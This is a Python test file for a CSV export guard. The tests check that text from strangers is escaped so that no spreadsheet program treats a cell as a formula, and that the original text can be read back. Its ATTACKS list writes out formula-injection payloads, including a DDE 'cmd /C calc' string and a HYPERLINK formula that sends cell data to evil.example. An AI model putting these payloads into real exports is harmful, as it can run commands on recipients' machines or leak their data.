"""What strangers' texts become in our files: never a formula, and always to be read back."""

import csv
import io
import re
from collections.abc import Iterator

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from dni.cells import guarded, line, read_back

FORMULA = "=+-@＝＋－＠﹢﹣﹦﹫−\t\r\n\0"
UNSEEN = " \xa0\u200b\u200e\u202e\u2060\ufeff\u3000\x0b\xad'\""
SEPARATORS = ",;\t\r\n"
# What an attacker would put together, and what nobody thinks of.
HOSTILE = st.text(st.sampled_from(FORMULA + UNSEEN + SEPARATORS + "1A(|!é🔥"), max_size=12)
ANY = st.text(max_size=80) | HOSTILE

ATTACKS = (
    "=1+1",
    "+1+1",
    "-1",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "\nx",
    "\0=1",
    "  =1",
    "\xa0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "'=1",
    "''=1",
    "＝1＋1",
    "﹣1",
    "−1",
    '"=1',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'x;=HYPERLINK("http://evil.example?x="&A1)',
    'x;"=1+1&"',
    "x; \u200b=1",
    "x\t=1",
    "x\r\n=1",
    "x\r=1;\n@A1",
    "+1415x",
    "=+14155550100",
    "+",
)


def cells_of(row: list[str], separator: str) -> Iterator[str]:
    """As a program reads a line that splits at `separator` and knows quotes at the start of a field only."""
    text, at = line(row), 0
    while at < len(text):
        cell = ""
        if text[at] == '"':
            at += 1
            while at < len(text):
                if text.startswith('""', at):
                    cell, at = cell + '"', at + 2
                elif text[at] == '"':
                    at += 1
                    break
                else:
                    cell, at = cell + text[at], at + 1
        while at < len(text) and text[at] not in separator + "\r\n":
            cell, at = cell + text[at], at + 1
        yield cell
        at += 1


def computes(cell: str) -> bool:
    """Whether some program would take it for a formula, once it has dropped what cannot be seen."""
    seen = cell.lstrip(UNSEEN.replace("'", ""))
    return bool(seen) and seen[0] in "=+-@＝＋－＠﹢﹣﹦﹫−" and not re.fullmatch(r"\+[0-9•]+", cell)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_is_a_formula(attack: str) -> None:
    assert guarded(attack) != attack
    assert read_back(guarded(attack)) == attack
    for separator in (",", ";", "\t", ",;\t"):
        assert not [cell for cell in cells_of(["a", guarded(attack), "b"], separator) if computes(cell)]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "emergency plumber",
        "https://shop.example/a?b=c&d=-1",
        "+14155550100",
        "+1415555••••",
        "a=b; c",
        "10 - 20",
        "rock'n'roll",
        "'quoted'",
        "two\nlines",
        "🔥",
        "e\u0301",
        "مرحبا",
    ],
)
def test_usual_texts_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text == read_back(text)


@given(ANY, ANY, ANY)
@example("", '"', "\r")
@example("a", ";", "=1")
@example(";'=", "'", "'\0")
@example("+1", "5+cmd|' /C calc'!A0", "")
def test_whatever_a_field_holds_it_is_no_formula_and_can_be_read_back(first: str, second: str, third: str) -> None:
    row = [guarded(first, first=True), guarded(second), guarded(third)]
    [read] = csv.reader(io.StringIO(line(row), newline=""), strict=True)
    assert [read_back(cell) for cell in read] == [first, second, third]
    for separator in (",", ";", "\t", ",;\t"):
        assert not [cell for cell in cells_of(row, separator) if computes(cell)]


def test_a_long_text_takes_no_longer_than_it_is_long() -> None:
    for part in (" ", ";", "\t", "\n ", "' ", ";'"):
        assert read_back(guarded(part * 200_000)) == part * 200_000
